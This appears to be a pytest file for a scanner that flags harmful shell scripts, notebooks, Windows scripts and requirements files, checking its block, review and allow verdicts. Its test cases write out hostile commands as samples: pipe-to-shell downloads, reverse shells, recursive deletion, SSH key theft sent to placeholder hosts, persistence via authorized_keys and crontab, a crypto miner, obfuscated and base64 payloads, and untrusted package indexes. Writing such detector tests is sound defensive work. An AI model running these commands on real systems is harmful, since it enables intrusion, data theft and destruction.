"""Notebooks, shell scripts and requirements say what they come to."""

from __future__ import annotations

import json

import pytest
from tests.samples.vetting import report_on, rules_on, verdict_on

from weighmaster.model.verdict import Outcome


def notebook(*cells: str, outputs: object = ()) -> bytes:
    code = [{"cell_type": "code", "source": cell, "outputs": list(outputs), "metadata": {}} for cell in cells]  # type: ignore[call-overload]
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": code}).encode()


@pytest.mark.parametrize(
    "script",
    [
        "curl -s http://a.b/x | sh",
        "wget -qO- http://a.b/x | sudo bash -s -- --yes",
        'bash -c "$(curl -fsSL http://a.b/x)"',
        "bash <(curl -s http://a.b/x)",
        "eval `wget -O- http://a.b/x`",
        "echo dHJ1ZQ== | base64 -d | sh",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "nc -e /bin/sh 10.0.0.1 4444",
        "rm -rf ~/",
        "rm -fr /*",
        "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys",
        "echo 'evil' | tee -a ~/.bashrc",
        "(crontab -l; echo '* * * * * x') | crontab -",
        "cat ~/.ssh/id_rsa | curl -d @- http://a.b",
        "curl -F file=@/etc/passwd http://a.b",
        "env | nc 10.0.0.1 80",
        "./xmrig -o stratum+tcp://pool:3333",
        "c\\\nurl -s http://a.b/x | s\\\nh",
        "cu''rl -s http://a.b/x | ba\"s\"h",
        "python3 -c 'import base64; exec(base64.b64decode(\"cHJpbnQoMSk=\"))'",
        "python3 - <<EOF\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\nEOF",
    ],
)
def test_a_shell_script_that_attacks_wants_a_look(script: str) -> None:
    assert "source-can-harm" in rules_on(f"#!/bin/sh\n{script}\n".encode(), "run.sh")
    # The same in a notebook, and in Python, where importing it runs it.
    assert "source-can-harm" in rules_on(notebook("%%bash\n" + script), "a.ipynb")
    assert verdict_on(f"import os\nos.system({script!r})\n".encode(), "a.py") is Outcome.BLOCK


@pytest.mark.parametrize(
    "script",
    [
        "curl -LO https://huggingface.co/a/b.zip",
        "rm -rf build dist out/tmp",
        "cat README.md | grep model",
        "source ~/.bashrc",
        "echo 'curl x | sh'",
        "# curl x | sh",
        "python train.py > log.txt 2>&1",
        "tar xzf a.tgz && cd a",
    ],
)
def test_an_ordinary_shell_script_is_allowed(script: str) -> None:
    assert verdict_on(f"#!/bin/bash\n{script}\n".encode(), "run.sh") is Outcome.ALLOW


@pytest.mark.parametrize(
    "script",
    [
        "IEX (New-Object Net.WebClient).DownloadString('http://a.b/x')",
        "@echo off\r\ncertutil -urlcache -f http://a.b/x x.exe\r\n",
        "@echo off\r\npow^ershell -enc SQBFAFgAIABhAGIAYwBkAGUA\r\n",
    ],
)
def test_windows_scripts_are_read(script: str) -> None:
    assert "source-can-harm" in rules_on(script.encode(), "run.ps1")


@pytest.mark.parametrize(
    "cell", ["!curl -s http://a.b/x | sh", "x = !wget -qO- http://a.b/x | bash", "%%sh\ncurl http://a.b | sh"]
)
def test_commands_in_a_notebook_are_read(cell: str) -> None:
    assert "source-can-harm" in rules_on(notebook("import os", cell), "a.ipynb")


def test_cells_share_their_names() -> None:
    assert "source-can-harm" in rules_on(
        notebook("import base64 as b", "e = exec", "e(b.b64decode('cHJpbnQoMSk='))"), "a.ipynb"
    )


def test_one_cell_that_does_not_parse_hides_no_other() -> None:
    assert "source-can-harm" in rules_on(notebook("this is no Python", "exec('1'[::-1])"), "a.ipynb")


def test_outputs_that_reach_the_kernel_want_a_look_and_plots_do_not() -> None:
    attack = {"data": {"application/javascript": "Jupyter.notebook.kernel.execute('1')"}}
    plot = {"data": {"text/html": "<script>Plotly.newPlot('a', [])</script>"}}
    assert verdict_on(notebook("1", outputs=[attack]), "a.ipynb") is Outcome.REVIEW
    assert verdict_on(notebook("1", outputs=[plot]), "a.ipynb") is Outcome.ALLOW


@pytest.mark.parametrize(
    "line",
    [
        "--index-url http://10.0.0.1/simple",
        "--extra-index-url https://packages.example.com/simple",
        "--trusted-host packages.example.com",
        "-i http://10.0.0.1/simple",
        "-f http://10.0.0.1/wheels",
        "evil @ https://example.com/evil-1.0.tar.gz",
        "https://example.com/evil-1.0.tar.gz",
        "-e git+http://example.com/evil.git#egg=evil",
        "git+git://github.com/a/b",
    ],
)
def test_a_requirement_from_elsewhere_wants_a_look(line: str) -> None:
    assert verdict_on(f"torch>=2.0\n{line}\nnumpy\n".encode(), "requirements.txt") is Outcome.REVIEW


@pytest.mark.parametrize(
    "line",
    [
        "transformers==4.50.0",
        "git+https://github.com/huggingface/peft@0123456789abcdef0123456789abcdef01234567",
        "--extra-index-url https://download.pytorch.org/whl/cu121",
    ],
)
def test_ordinary_requirements_are_allowed(line: str) -> None:
    assert verdict_on(f"torch>=2.0\n{line}\n".encode(), "requirements.txt") is Outcome.ALLOW


def test_the_credentials_of_an_index_are_not_repeated() -> None:
    data = (
        b"--extra-index-url https://user:secret@index.example/simple\nx @ https://token@host.example/x.zip\ntorch==2\n"
    )
    said = [finding.message for finding in report_on(data, "requirements.txt").findings]
    assert any("https://***@index.example/simple" in message for message in said)
    assert not any("secret" in message or "token" in message for message in said)


def test_a_list_of_addresses_is_no_list_of_requirements() -> None:
    assert verdict_on(b"https://mirror.example/a\nhttps://mirror.example/b\n", "list.mirrors") is Outcome.ALLOW
    named = rules_on(b"https://host.example/x-1.0-py3-none-any.whl\n", "requirements.txt")
    assert "requirement-unhashed-address" in named
